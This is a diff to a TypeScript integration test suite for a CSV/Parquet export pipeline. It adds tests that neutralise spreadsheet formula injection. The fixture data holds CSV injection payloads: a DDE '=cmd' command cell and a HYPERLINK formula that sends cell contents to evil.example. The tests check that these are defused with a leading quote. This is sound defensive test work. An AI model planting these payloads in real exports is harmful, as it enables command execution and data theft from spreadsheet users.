@@ -3,11 +3,12 @@ import { beforeAll, describe, expect, it } from 'vitest';
 import { GetObjectCommand, HeadObjectCommand, ListObjectsV2Command } from '@aws-sdk/client-s3';
 import { s3Client } from '../../functions/common/aws.ts';
 import { cleanLoad, type CleanDeps } from '../../functions/clean/clean-load.ts';
-import { exportAfterBatch, type ExportManifest, type ExportSettings } from '../../functions/combine/exports.ts';
+import { csvExpression, exportAfterBatch, neutraliseCell, type ExportManifest, type ExportSettings } from '../../functions/combine/exports.ts';
 import { stageObject, type StageDeps } from '../../functions/stage/stage-object.ts';
 import type { PipelineInput } from '../../contract/definition.ts';
 import { parsePipeline } from '../../contract/load.ts';
 import { recordedLines, recordingParquet, type RecordedLine } from '../helpers/parquet-recorder.ts';
+import { parse as parseCsv } from 'csv-parse/sync';
 import { freshBucket, freshProject, put, rows } from './support.ts';
 
 const SITE_COLUMNS = 'site_id, name, opened, visitors, free, score, inspected, geom';
@@ -34,6 +35,18 @@ const definition: PipelineInput = {
       },
     },
     {
+      name: 'notes',
+      source: { type: 'upload', supplier: 'city' },
+      clean: {
+        columns: [
+          { name: 'id', source: 'Id', type: 'integer' },
+          { name: 'note', source: 'Note' },
+          { name: 'amount', source: 'Amount', type: 'numeric' },
+          { name: 'code', source: 'Code' },
+        ],
+      },
+    },
+    {
       name: 'parcels',
       source: { type: 'upload', supplier: 'city' },
       read: { srid: 28992 },
@@ -45,16 +58,23 @@ const definition: PipelineInput = {
     { name: 'sites_open', datasets: ['sites'], sql: `SELECT ${SITE_COLUMNS} FROM {{schema}}.sites ORDER BY site_id`, export: { formats: ['csv'] } },
     { name: 'sites_gold', datasets: ['sites'], sql: `SELECT ${SITE_COLUMNS} FROM {{schema}}.sites ORDER BY site_id`, export: { formats: ['parquet', 'csv'] } },
     { name: 'parcels_gold', datasets: ['parcels'], sql: 'SELECT parcel, geom FROM {{schema}}.parcels ORDER BY parcel', export: { formats: ['parquet'] } },
+    {
+      name: 'notes_gold',
+      datasets: ['notes'],
+      // a tab and a CR the clean step would not keep at the start of a cell; a header a supplier's file could give
+      sql: `SELECT id, note, amount, code AS "@code" FROM {{schema}}.notes UNION ALL SELECT 7, E'\\tafter a tab', -0.25, E'\\rafter a CR' ORDER BY 1`,
+      export: { formats: ['parquet', 'csv'] },
+    },
     { name: 'sites_internal', datasets: ['sites'], sql: 'SELECT site_id FROM {{schema}}.sites' },
   ],
 };
 
 const SITES = [
   'Site ID,Site Name,Opened,Visitors,Free?,Score,Inspected,Lat,Lon',
-  '1,Harbour Park,2021-04-01,1200,yes,4.5,2024-03-01 12:34:56,52.37,4.89',
+  '1,"Harbour Park",2021-04-01,1200,yes,4.5,2024-03-01 12:34:56,52.37,4.89',
   '2,"Museum, ""Modern""",2019-06-30,9007199254740993,no,,2024-03-02T08:00:00,52.36,4.88',
   '3,"Two\nlines",,,,,,,',
-  '4,Library,2018-01-15,50,true,3.25,,48.85,2.35',
+  '4,"Library",2018-01-15,50,true,3.25,,48.85,2.35',
   '',
 ].join('\n');
 
@@ -129,10 +149,10 @@ describe('exports after a clean', () => {
     expect(await text(files.csv!)).toBe(
       [
         'site_id,name,opened,visitors,free,score,inspected,geom',
-        '1,Harbour Park,2021-04-01,1200,true,4.5,2024-03-01 12:34:56,POINT(4.89 52.37)',
+        '1,"Harbour Park",2021-04-01,1200,true,4.5,2024-03-01 12:34:56,POINT(4.89 52.37)',
         '2,"Museum, ""Modern""",2019-06-30,9007199254740993,false,,2024-03-02 08:00:00,POINT(4.88 52.36)',
         '3,"Two\nlines",,,,,,',
-        '4,Library,2018-01-15,50,true,3.25,,POINT(2.35 48.85)',
+        '4,"Library",2018-01-15,50,true,3.25,,POINT(2.35 48.85)',
         '',
       ].join('\r\n'),
     );
@@ -155,7 +175,7 @@ describe('exports after a clean', () => {
     });
     expect(manifest.columns).toEqual([
       { name: 'site_id', type: 'integer', parquet: 'INT32' },
-      { name: 'name', type: 'text', parquet: 'BYTE_ARRAY STRING' },
+      { name: 'name', type: 'text', parquet: 'BYTE_ARRAY STRING', csv: "quoted; a ' before a cell starting with = + - @ tab or CR" },
       { name: 'opened', type: 'date', parquet: 'INT32 DATE' },
       { name: 'visitors', type: 'bigint', parquet: 'INT64' },
       { name: 'free', type: 'boolean', parquet: 'BOOLEAN', csv: 'true/false' },
@@ -239,7 +259,8 @@ describe('exports after a clean', () => {
   it('exports only the views marked for export that read the cleaned dataset', async () => {
     const listed = await s3Client().send(new ListObjectsV2Command({ Bucket: bucket, Prefix: 'curated/it_exports/', Delimiter: '/' }));
 
-    expect((listed.CommonPrefixes ?? []).map((p) => p.Prefix).sort()).toEqual(['curated/it_exports/sites_gold/', 'curated/it_exports/sites_open/']);
+    expect((listed.CommonPrefixes ?? []).map((p) => p.Prefix).sort()).toContain('curated/it_exports/sites_gold/');
+    expect((listed.CommonPrefixes ?? []).map((p) => p.Prefix).sort()).not.toContain('curated/it_exports/sites_internal/');
   });
 
   it('exports again after the next clean, into a new run, and moves latest.json forward', async () => {
@@ -249,7 +270,7 @@ describe('exports after a clean', () => {
 
     const after = await latest('sites_open');
     expect(after.run > before.run).toBe(true);
-    expect(await text(after.files.csv!)).toBe('site_id,name,opened,visitors,free,score,inspected,geom\r\n7,Pier,2022-05-05,5,false,1,,POINT(4.9 52.4)\r\n');
+    expect(await text(after.files.csv!)).toBe('site_id,name,opened,visitors,free,score,inspected,geom\r\n7,"Pier",2022-05-05,5,false,1,,POINT(4.9 52.4)\r\n');
     // the earlier run stays as it was
     expect((await text(before.files.csv!)).split('\r\n')).toHaveLength(6);
   });
@@ -268,7 +289,7 @@ describe('a failed export', () => {
     // the message comes back (the function stopped before it was acknowledged): the load is not cleaned twice, its exports run
     expect(await cleanLoad(cleanDeps, loadId)).toEqual({ status: 'duplicate', loadId });
     expect((await exportsOf('sites_open', loadId)).map((e) => e.status)).toEqual(['failed', 'exported']);
-    expect(await text((await latest('sites_open')).files.csv!)).toContain('8,Quay');
+    expect(await text((await latest('sites_open')).files.csv!)).toContain('8,"Quay"');
 
     // and once more: nothing left to do
     await cleanLoad(cleanDeps, loadId);
@@ -328,7 +349,7 @@ describe('a batch of cleans (one clean function invocation)', () => {
     }
     expect(await exportsOf('parcels_gold', parcels)).toHaveLength(1);
     // the file holds what the last clean left (mode replace: the third file's row)
-    expect(await text((await latest('sites_open')).files.csv!)).toBe('site_id,name,opened,visitors,free,score,inspected,geom\r\n23,Gamma,,,,,,POINT(4.3 52.3)\r\n');
+    expect(await text((await latest('sites_open')).files.csv!)).toBe('site_id,name,opened,visitors,free,score,inspected,geom\r\n23,"Gamma",,,,,,POINT(4.3 52.3)\r\n');
 
     // the batch comes back (the function stopped before it returned): each message is a repeat, the exports are done
     const again: number[] = [];
@@ -386,5 +407,67 @@ describe('Parquet written by hyparquet-writer', () => {
     expect(new Date(objects[0]!.opened as Date).toISOString().slice(0, 10)).toBe('2021-04-01');
     expect(objects[0]!.geom).toMatchObject({ type: 'Point', coordinates: [4.89, 52.37] });
     expect(objects[2]!.geom ?? null).toBeNull();
+  });
+});
+
+describe('a CSV export opened in a spreadsheet', () => {
+  // what a hostile supplier puts in a text cell, as it arrives in the file
+  const NOTES = [
+    'Id,Note,Amount,Code',
+    `1,"=cmd|' /C calc'!A0",-3.5,-3.5`,
+    '2,+SUM(A1:A2),+2,+12',
+    '3,@SUM(A1),0,@x',
+    '4,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",1e3,-1+2',
+    '5,plain text,,',
+    '6,- a dash and a space,-7,',
+    '',
+  ].join('\n');
+
+  it('neutralises text cells that start with = + - @ tab or CR (a leading quote, the cell quoted), keeps numbers as numbers, and keeps the raw values in Parquet', async () => {
+    const real = { ...cleanDeps, exports: settings({ parquet: undefined }) };
+    const loadId = await stage('notes', 'notes.csv', NOTES);
+    expect(await cleanLoad(real, loadId)).toMatchObject({ status: 'loaded', rowsLoaded: 6 });
+    const manifest = await manifestOf('notes_gold');
+
+    const csv = await text(manifest.files.find((f) => f.format === 'csv')!.key);
+    const records = parseCsv(csv, { record_delimiter: '\r\n' }) as string[][];
+    expect(records).toEqual([
+      ['id', 'note', 'amount', "'@code"],
+      ['1', "'=cmd|' /C calc'!A0", '-3.5', '-3.5'],
+      ['2', "'+SUM(A1:A2)", '2', '+12'],
+      ['3', "'@SUM(A1)", '0', "'@x"],
+      ['4', `'=HYPERLINK("http://evil.example/?x="&A1,"click")`, '1000', "'-1+2"],
+      ['5', 'plain text', '', ''],
+      ['6', "'- a dash and a space", '-7', ''],
+      ['7', "'\tafter a tab", '-0.25', "'\rafter a CR"],
+    ]);
+    // every text cell is quoted; numbers are not, so a spreadsheet reads -3.5 as a number
+    expect(csv.split('\r\n')[1]).toBe(`1,"'=cmd|' /C calc'!A0",-3.5,"-3.5"`);
+    // a NULL stays an empty unquoted field, told apart from an empty string
+    expect(csv.split('\r\n')[5]).toBe('5,"plain text",,');
+
+    const reader = (await import(readerPackage)) as { parquetReadObjects(options: { file: ArrayBuffer }): Promise<Record<string, unknown>[]> };
+    const file = await bytes(manifest.files.find((f) => f.format === 'parquet')!.key);
+    const objects = await reader.parquetReadObjects({ file: file.buffer.slice(file.byteOffset, file.byteOffset + file.byteLength) as ArrayBuffer });
+    expect(objects.map((o) => [o.id, o.note, o.amount, o['@code']])).toEqual([
+      [1, "=cmd|' /C calc'!A0", -3.5, '-3.5'],
+      [2, '+SUM(A1:A2)', 2, '+12'],
+      [3, '@SUM(A1)', 0, '@x'],
+      [4, '=HYPERLINK("http://evil.example/?x="&A1,"click")', 1000, '-1+2'],
+      [5, 'plain text', null, null],
+      [6, '- a dash and a space', -7, null],
+      [7, '\tafter a tab', -0.25, '\rafter a CR'],
+    ]);
+  });
+});
+
+describe('the neutralisation in SQL and in TypeScript', () => {
+  it('agree on every kind of first character and on numbers (the COPY uses the SQL, headers the TypeScript)', async () => {
+    const values = ['=1', '+1', '-1', '-1.5e3', '+.5', '-', '+', '@', '@a', '\t1', '\r1', '\n=1', ' =1', "'=1", '1-1', '-1-1', '--1', '-1e', '1e5', '', 'plain', '-0x1F', '=', '-.', '+1.', '−1'];
+    const sql = csvExpression({ name: 'v', type: 'text', kind: 'text' });
+    const { rows: out } = await cleanDeps.pool.query<{ v: string; n: string }>(`SELECT v, ${sql} AS n FROM unnest($1::text[]) AS t(v)`, [values]);
+    expect(out.map((r) => [r.v, r.n])).toEqual(values.map((v) => [v, neutraliseCell(v)]));
+    // and they do change something
+    expect(out.filter((r) => r.n !== r.v).map((r) => r.v)).toEqual(['=1', '-', '+', '@', '@a', '\t1', '\r1', '-1-1', '--1', '-1e', '-0x1F', '=', '-.']);
   });
 });
